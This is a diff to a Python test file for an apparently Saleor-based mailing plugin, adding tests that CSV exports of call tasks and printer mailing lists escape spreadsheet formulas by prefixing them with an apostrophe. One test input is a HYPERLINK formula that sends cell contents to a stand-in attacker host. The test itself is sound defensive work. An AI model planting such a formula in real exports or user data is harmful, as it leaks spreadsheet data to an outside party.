@@ -1,11 +1,14 @@
 """Call tasks and direct mail over the operator API."""
 
+import csv
+import io
+
 import pytest
 
 from saleor_stepmail.engine.dispatch import dispatch_due
 from saleor_stepmail.engine.enrollment import record_event
 from saleor_stepmail.models import CallTask, DirectMailRow
-from tests.engine.channels.test_offline import offline_order
+from tests.engine.channels.test_offline import ADDRESS, offline_order
 from tests.factories import make_scenario
 
 from .conftest import gid, no_errors
@@ -56,7 +59,20 @@ def test_support_lists_open_call_tasks_and_exports_them_as_csv(api, call_task):
         "delivery": {"state": "SENT"},
     }
     assert csv.startswith("\ufeffid,state,phone,email,scenario,step,order,created_at\r\n")
-    assert f"{call_task.pk},open,+81751234567,hana@example.com,thanks-call" in csv
+    assert f"{call_task.pk},open,'+81751234567,hana@example.com,thanks-call" in csv
+
+
+def test_a_phone_written_as_a_formula_reaches_the_call_list_csv_as_text(api, clock):
+    make_scenario(slug="thanks-call", delays=(0,)).steps.update(channel="call_task")
+    event = offline_order(clock.now)
+    event.context["order"]["shipping_address"] = {**ADDRESS, "phone": "=1+2"}
+    record_event(event)
+    dispatch_due(now=clock.advance(minutes=1))
+
+    text = api(CSV, {"state": "OPEN"}, token="support")["data"]["stepmailCallTasksCsv"]
+
+    [row] = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
+    assert row["phone"] == "'=1+2"
 
 
 def test_staff_mark_a_call_done_once(api, call_task, clock):
@@ -81,6 +97,24 @@ def test_call_tasks_need_manage_orders(api, call_task):
 
     assert "MANAGE_ORDERS" in denied["errors"][0]["message"]
     assert complete["data"]["stepmailCallTaskComplete"]["errors"][0]["code"] == "PERMISSION_DENIED"
+
+
+def test_a_shipping_name_written_as_a_formula_reaches_the_printers_csv_as_text(api, clock):
+    make_scenario(slug="catalogue", delays=(0,)).steps.update(channel="dm_export")
+    event = offline_order(clock.now)
+    formula = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    event.context["order"]["shipping_address"] = {
+        **ADDRESS, "last_name": formula, "first_name": " +1+1", "city": "@SUM(1)"
+    }  # fmt: skip
+    record_event(event)
+    dispatch_due(now=clock.advance(minutes=1))
+
+    export = no_errors(api(EXPORT, token="support"), "stepmailDirectMailExport")
+
+    [row] = csv.DictReader(io.StringIO(export["csv"].removeprefix("\ufeff")))
+    assert (row["last_name"], row["first_name"], row["city"]) == (
+        "'" + formula, "' +1+1", "'@SUM(1)"
+    )  # fmt: skip
 
 
 def test_direct_mail_export_returns_the_printers_csv_once(api, clock):
